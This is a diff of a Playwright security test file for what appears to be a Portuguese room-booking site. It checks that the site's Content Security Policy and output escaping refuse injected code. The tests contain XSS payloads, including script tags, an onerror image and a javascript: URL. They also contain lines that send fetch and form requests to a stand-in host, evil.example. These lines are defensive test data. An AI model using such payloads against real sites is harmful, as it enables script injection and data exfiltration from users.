@@ -1,6 +1,6 @@
-import type { Browser, Page } from 'playwright-core';
-import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import { DESKTOP, launchBrowser, newVisitor, signIn } from './support';
+import type { Page } from '@playwright/test';
+import { DESKTOP, expect, test } from './fixtures';
+import { signIn } from './screen';
 
 // What got in by whatever way must not run: these tests put it there themselves.
 
@@ -16,12 +16,6 @@ const PAGES_WITH_LINKS = [
   '/politica-privacidade',
 ];
 
-let browser: Browser;
-beforeAll(async () => {
-  browser = await launchBrowser();
-});
-afterAll(async () => browser.close());
-
 declare global {
   interface Window {
     /** Set by whatever code of an attacker ran. */
@@ -31,8 +25,8 @@ declare global {
 
 const hasRun = async (page: Page) => page.evaluate(() => window.hasRun ?? null);
 
-describe('code that got into a page', () => {
-  it.each([
+test.describe('code that got into a page', () => {
+  for (const [name, markup, directive] of [
     ['a script', '<script>window.hasRun = "script"</script>', 'script-src-elem'],
     ['a module', '<script type="module">window.hasRun = "module"</script>', 'script-src-elem'],
     [
@@ -52,23 +46,24 @@ describe('code that got into a page', () => {
     ["somebody else's frame", '<iframe src="https://evil.example/"></iframe>', 'frame-src'],
     ['another base', '<base href="https://evil.example/">', 'base-uri'],
     ['a plug-in', '<object data="https://evil.example/x.swf"></object>', 'object-src'],
-  ])('%s is refused in the HTML', async (_name, markup, directive) => {
-    const guest = await newVisitor(browser, DESKTOP);
-    const { page, problems } = guest;
-    await page.route('**/sobre', async (route) => {
-      const answer = await route.fetch();
-      const body = (await answer.text()).replace('<body>', `<body>${markup}`);
-      await route.fulfill({ response: answer, body });
+  ] as const) {
+    test(`${name} is refused in the HTML`, async ({ newVisitor }) => {
+      const guest = await newVisitor(DESKTOP);
+      const { page, problems } = guest;
+      await page.route('**/sobre', async (route) => {
+        const answer = await route.fetch();
+        const body = (await answer.text()).replace('<body>', `<body>${markup}`);
+        await route.fulfill({ response: answer, body });
+      });
+      await page.goto('/sobre');
+      await expect.poll(() => problems.join('\n')).toContain(`Refused by ${directive}`);
+      expect(await hasRun(page)).toBeNull();
+      expect(await page.locator('h1').isVisible()).toBe(true);
+      expect(await page.evaluate(() => document.baseURI)).not.toContain('evil.example');
     });
-    await page.goto('/sobre');
-    await expect.poll(() => problems.join('\n')).toContain(`Refused by ${directive}`);
-    expect(await hasRun(page)).toBeNull();
-    expect(await page.locator('h1').isVisible()).toBe(true);
-    expect(await page.evaluate(() => document.baseURI)).not.toContain('evil.example');
-    await guest.context.close();
-  });
+  }
 
-  it.each([
+  for (const [name, attack] of [
     [
       'markup made of text',
       () => {
@@ -107,20 +102,23 @@ describe('code that got into a page', () => {
         link.click();
       },
     ],
-  ])('%s is refused at run time', async (_name, attack) => {
-    const guest = await newVisitor(browser, DESKTOP);
-    const { page, problems } = guest;
-    await page.goto('/');
-    await page.evaluate(attack).catch(() => {});
-    await expect.poll(() => problems.join('\n')).toMatch(/Refused by (script-src|require-trusted)/);
-    expect(await hasRun(page)).toBeNull();
-    await guest.context.close();
-  });
+  ] as const) {
+    test(`${name} is refused at run time`, async ({ newVisitor }) => {
+      const guest = await newVisitor(DESKTOP);
+      const { page, problems } = guest;
+      await page.goto('/');
+      await page.evaluate(attack).catch(() => {});
+      await expect
+        .poll(() => problems.join('\n'))
+        .toMatch(/Refused by (script-src|require-trusted)/);
+      expect(await hasRun(page)).toBeNull();
+    });
+  }
 
-  it('a form cannot carry what is typed elsewhere', async () => {
-    const guest = await newVisitor(browser, DESKTOP);
+  test('a form cannot carry what is typed elsewhere', async ({ newVisitor }) => {
+    const guest = await newVisitor(DESKTOP);
     const { page, problems } = guest;
-    await page.goto('/contacto', { waitUntil: 'networkidle' });
+    await page.goto('/contacto');
     await page.evaluate(() => {
       const form = document.createElement('form');
       form.action = 'https://evil.example/';
@@ -128,13 +126,12 @@ describe('code that got into a page', () => {
       form.submit();
     });
     await expect.poll(() => problems.join('\n')).toContain('Refused by form-action');
-    await guest.context.close();
   });
 
-  it('nobody may ask another backend, nor frame the site', async () => {
-    const guest = await newVisitor(browser, DESKTOP);
+  test('nobody may ask another backend, nor frame the site', async ({ newVisitor }) => {
+    const guest = await newVisitor(DESKTOP);
     const { page, problems } = guest;
-    await page.goto('/', { waitUntil: 'networkidle' });
+    await page.goto('/');
     await page.evaluate(async () => fetch('https://evil.example/?mail=1').catch(() => {}));
     await expect.poll(() => problems.join('\n')).toContain('Refused by connect-src');
 
@@ -144,16 +141,17 @@ describe('code that got into a page', () => {
       route.fulfill({ contentType: 'text/html', body: '<iframe src="/admin/login"></iframe>' }),
     );
     await page.goto('/moldura');
-    await expect.poll(() => refusals).toEqual(['net::ERR_BLOCKED_BY_RESPONSE']);
-    await guest.context.close();
+    await expect.poll(() => refusals).toContain('net::ERR_BLOCKED_BY_RESPONSE');
   });
 });
 
-describe('what is stored is shown, and never run', () => {
+test.describe('what is stored is shown, and never run', () => {
   const CODE = 'javascript:window.hasRun=1';
 
-  it('an address of a room that is code is neither a picture nor a link', async () => {
-    const guest = await newVisitor(browser, DESKTOP);
+  test('an address of a room that is code is neither a picture nor a link', async ({
+    newVisitor,
+  }) => {
+    const guest = await newVisitor(DESKTOP);
     const { page, problems } = guest;
     await page.route('**/rest/v1/rooms*', async (route) => {
       const answer = await route.fetch();
@@ -169,7 +167,7 @@ describe('what is stored is shown, and never run', () => {
       });
     });
     for (const path of ['/quartos', '/quarto/6', '/reservas?guests=2']) {
-      await page.goto(path, { waitUntil: 'networkidle' });
+      await page.goto(path);
       const addresses = await page.evaluate(() =>
         [...document.querySelectorAll('[src], [href]')].map(
           (element) => element.getAttribute('src') ?? element.getAttribute('href') ?? '',
@@ -181,13 +179,12 @@ describe('what is stored is shown, and never run', () => {
     }
     expect(problems).toEqual([]);
     expect(await hasRun(page)).toBeNull();
-    await guest.context.close();
   });
 
-  it("a message's markup is text to whoever reads it", async () => {
+  test("a message's markup is text to whoever reads it", async ({ newVisitor }) => {
     const MARKUP = '<img src=x onerror="window.hasRun=1"><script>window.hasRun=1</script>';
-    const guest = await newVisitor(browser, DESKTOP);
-    await guest.page.goto('/contacto', { waitUntil: 'networkidle' });
+    const guest = await newVisitor(DESKTOP);
+    await guest.page.goto('/contacto');
     await guest.page.getByLabel('Nome').fill('<b>Rui</b> Tavares');
     await guest.page.getByLabel('Email').fill('rui.tavares@example.com');
     await guest.page.getByLabel('Assunto').selectOption({ label: 'Feedback' });
@@ -195,23 +192,21 @@ describe('what is stored is shown, and never run', () => {
     await guest.page.getByRole('button', { name: /Enviar/ }).click();
     await guest.page.getByText('Mensagem enviada com sucesso!').waitFor();
 
-    const staff = await newVisitor(browser, DESKTOP);
+    const staff = await newVisitor(DESKTOP);
     await signIn(staff.page);
-    await staff.page.goto('/admin/contact-messages', { waitUntil: 'networkidle' });
+    await staff.page.goto('/admin/contact-messages');
     await staff.page.getByText('<b>Rui</b> Tavares').first().click();
     await staff.page.getByText(MARKUP).first().waitFor();
     expect(await hasRun(staff.page)).toBeNull();
     expect([...guest.problems, ...staff.problems]).toEqual([]);
-    await guest.context.close();
-    await staff.context.close();
   });
 });
 
-it('no link of the site leads anywhere unsafe', async () => {
-  const guest = await newVisitor(browser, DESKTOP);
+test('no link of the site leads anywhere unsafe', async ({ newVisitor }) => {
+  const guest = await newVisitor(DESKTOP);
   const { page } = guest;
   for (const path of PAGES_WITH_LINKS) {
-    await page.goto(path, { waitUntil: 'networkidle' });
+    await page.goto(path);
     const links = await page.evaluate(() =>
       [...document.querySelectorAll<HTMLAnchorElement>('a[href]')].map((link) => ({
         href: link.href,
@@ -230,5 +225,4 @@ it('no link of the site leads anywhere unsafe', async () => {
     );
     expect(unsafe).toEqual([]);
   }
-  await guest.context.close();
 });
